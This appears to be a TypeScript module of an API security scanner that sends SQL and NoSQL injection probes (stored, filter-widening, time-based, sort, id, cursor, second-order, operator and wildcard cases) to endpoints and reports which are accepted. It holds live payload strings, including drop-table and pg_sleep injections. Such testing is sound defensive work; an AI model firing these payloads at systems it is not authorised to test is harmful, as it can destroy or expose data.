import { buildRequest } from '../build-request.ts';
import type { Operation } from '../domain/openapi-document.ts';
import { parseJson } from '../domain/parse-json.ts';
import type { Attack } from './attack.ts';
import { type AttackField, isTaken, postJson, readRecord, readRows } from './attack-field.ts';
import { reportSlow } from './slowness.ts';
import { freeMembers, textMembers, textParameters } from './target.ts';

/** Each gives itself away where it becomes part of a statement: by a failure, another value or more rows. */
const STORED = ["' || (select version()) || '", "'); drop table users; --", '"\'`;--'];
const WIDENING = ["zz' or '1'='1", "zz%' or 1=1 --", "zz') or ('1'='1", 'zz" or "1"="1'];
const SLEEPING = [
  "'; select pg_sleep(3); --",
  "' || pg_sleep(3)::text || '",
  "1' and 1=(select 1 from pg_sleep(3)) --",
];
const SLEPT_MS = 2_500;

const stored: Attack = {
  id: 'sql-in-values',
  title: 'SQL in every text of a new record',
  cwe: 89,
  async run(field) {
    let tried = 0;
    for (const target of field.targets) {
      for (const name of textMembers(target)) {
        for (const text of STORED) {
          const body = await field.body(target);
          if (body === null) continue;
          tried += 1;
          const request = postJson(target.path, { ...body, [name]: text });
          const response = await field.send(request);
          const record = readRecord(response);
          // What is never given back, such as a password, cannot be compared.
          if (record?.[name] === undefined || plain(record[name]) === plain(text)) continue;
          field.report(`${name} was kept as another text than was sent`, { request, response });
        }
      }
    }
    return tried === 0 ? 'No record holds text.' : undefined;
  },
};

const filters: Attack = {
  id: 'sql-in-filters',
  title: 'SQL that widens a filter or a search',
  cwe: 89,
  async run(field) {
    let tried = 0;
    for (const { operation, name } of filtersOf(field)) {
      const [first = ''] = WIDENING;
      const plain = await list(field, operation, { [name]: first.replaceAll("'", '') });
      for (const text of WIDENING) {
        tried += 1;
        const { request, response } = await list(field, operation, { [name]: text });
        const rows = readRows(response)?.length ?? 0;
        if (rows <= (readRows(plain.response)?.length ?? 0)) continue;
        field.report(`${name} gave ${rows} rows that do not hold the text`, { request, response });
      }
    }
    return tried === 0 ? 'No list has a filter for text.' : undefined;
  },
};

const sleeping: Attack = {
  id: 'sql-that-waits',
  title: 'SQL that makes the database wait',
  cwe: 89,
  async run(field) {
    const places = filtersOf(field).map(
      ({ operation, name }) =>
        (text: string) =>
          buildRequest(operation, { query: { [name]: text } }),
    );
    for (const { read } of field.targets) {
      if (read === null) continue;
      places.push((text) =>
        buildRequest(read, { path: { [pathParameter(read)]: encodeURIComponent(text) } }),
      );
    }
    for (const write of places) {
      const harmless = write('harmless');
      for (const text of SLEEPING) {
        await reportSlow(field, { request: write(text), harmless, limitMs: SLEPT_MS });
      }
    }
    return places.length === 0 ? 'Nothing takes text.' : undefined;
  },
};

const sorting: Attack = {
  id: 'sql-in-sort',
  title: 'SQL as the order of a list',
  cwe: 89,
  async run(field) {
    const sorted = field.targets.flatMap(({ list: operation }) =>
      operation?.parameters.some(({ name }) => name === 'sort') ? [operation] : [],
    );
    for (const operation of sorted) {
      for (const sort of ['createdAt; select 1', '(select 1)', 'createdAt desc, id', 'password']) {
        const { request, response } = await list(field, operation, { sort });
        if (isTaken(response)) field.report('the order was taken', { request, response });
      }
    }
    return sorted.length === 0 ? 'No list can be sorted.' : undefined;
  },
};

const ids: Attack = {
  id: 'sql-in-ids',
  title: 'SQL behind the id of a record',
  cwe: 89,
  async run(field) {
    let tried = 0;
    for (const target of field.targets) {
      const made = await field.borrow(target);
      for (const operation of [target.read, target.update, target.remove]) {
        if (operation === null || made === null) continue;
        for (const tail of ["' or '1'='1", '"; drop table users; --', ' or 1=1']) {
          tried += 1;
          const path = { [pathParameter(operation)]: encodeURIComponent(made.id + tail) };
          const body = operation.body === null ? {} : { body: {} };
          const request = buildRequest(operation, { path, ...body });
          const response = await field.send(request);
          if (isTaken(response)) field.report('the id was taken', { request, response });
        }
      }
    }
    return tried === 0 ? 'No record can be read by its id.' : undefined;
  },
};

const cursors: Attack = {
  id: 'sql-in-cursors',
  title: 'SQL in the cursor of a page',
  cwe: 89,
  async run(field) {
    let tried = 0;
    for (const target of field.targets) {
      const operation = target.list;
      if (operation === null || !operation.parameters.some(({ name }) => name === 'cursor'))
        continue;
      const first = await list(field, operation, { limit: '1' });
      // Of the first page of two rows there is a next one.
      if (typeof readRecord(first.response)?.nextCursor !== 'string') {
        await field.make(target);
        await field.make(target);
      }
      const again = await list(field, operation, { limit: '1' });
      const real = readRecord(again.response)?.nextCursor;
      if (typeof real !== 'string') continue;
      for (const cursor of spoiltCursors(real)) {
        tried += 1;
        const { request, response } = await list(field, operation, { limit: '1', cursor });
        if (isTaken(response)) field.report('the cursor was taken', { request, response });
      }
    }
    return tried === 0 ? 'No list has pages.' : undefined;
  },
};

/** A cursor whose texts are SQL where it can be read, and one with SQL behind it. */
function spoiltCursors(cursor: string): string[] {
  const text = Buffer.from(cursor, 'base64url').toString();
  const value = parseJson(text);
  if (value === undefined) return [`${cursor}' or '1'='1`];
  const spoilt = text.replace(/"(id|sort)":"[^"]*/g, (member) => `${member}' or '1'='1`);
  return [Buffer.from(spoilt).toString('base64url'), `${cursor}' or '1'='1`];
}

const secondOrder: Attack = {
  id: 'sql-second-order',
  title: 'SQL that was stored and is looked for later',
  cwe: 89,
  async run(field) {
    const text = "zq' or '1'='1";
    let tried = 0;
    for (const target of field.targets) {
      const { list: operation } = target;
      if (operation === null) continue;
      for (const name of freeMembers(target, text.length)) {
        const searched = ['q', name].filter((parameter) =>
          operation.parameters.some((one) => one.name === parameter),
        );
        const made = searched.length > 0 ? await field.make(target, { [name]: text }) : null;
        for (const parameter of made === null ? [] : searched) {
          tried += 1;
          const { request, response } = await list(field, operation, { [parameter]: text });
          const foreign = (readRows(response) ?? []).filter(
            (row) => !Object.values(row).some((value) => String(value).includes(text)),
          );
          if (foreign.length === 0) continue;
          field.report(`${parameter} gave rows that do not hold the text`, { request, response });
        }
      }
    }
    return tried === 0 ? 'No list can be searched for text.' : undefined;
  },
};

const operators: Attack = {
  id: 'query-operators',
  title: 'Operators of a query language instead of a text',
  cwe: 943,
  async run(field) {
    let tried = 0;
    for (const target of field.targets) {
      for (const name of textMembers(target)) {
        for (const value of [{ $ne: null }, { $gt: '' }, ['a', 'b']]) {
          const body = await field.body(target);
          if (body === null) continue;
          tried += 1;
          const request = postJson(target.path, { ...body, [name]: value });
          const response = await field.send(request);
          if (isTaken(response)) field.report(`${name} took it`, { request, response });
        }
      }
    }
    return tried === 0 ? 'No record holds text.' : undefined;
  },
};

const wildcards: Attack = {
  id: 'search-wildcards',
  title: 'Wildcards of SQL in a search',
  cwe: 155,
  async run(field) {
    const found = filtersOf(field);
    for (const { operation, name } of found) {
      for (const sign of ['%', '_']) {
        const { request, response } = await list(field, operation, { [name]: sign });
        const foreign = (readRows(response) ?? []).filter(
          (row) => !Object.values(row).some((value) => String(value).includes(sign)),
        );
        if (foreign.length > 0) field.report(`"${sign}" found every row`, { request, response });
      }
    }
    return found.length === 0 ? 'No list has a filter for text.' : undefined;
  },
};

/** Apps may trim a text or keep it in lower case. */
function plain(text: unknown): string {
  return String(text).trim().toLowerCase();
}

/** The text filters of every list, each list with a row or more in it as the exerciser left it. */
function filtersOf({ document, targets }: AttackField) {
  return targets.flatMap(({ list: operation }) =>
    operation === null
      ? []
      : textParameters(document, operation).map((name) => ({ operation, name })),
  );
}

async function list(field: AttackField, operation: Operation, query: Record<string, string>) {
  const request = buildRequest(operation, { query });
  return { request, response: await field.send(request) };
}

function pathParameter({ parameters }: Operation): string {
  return parameters.find(({ place }) => place === 'path')?.name ?? 'id';
}

export const sqlAttacks: readonly Attack[] = [
  stored,
  filters,
  sleeping,
  sorting,
  ids,
  cursors,
  secondOrder,
  operators,
  wildcards,
];
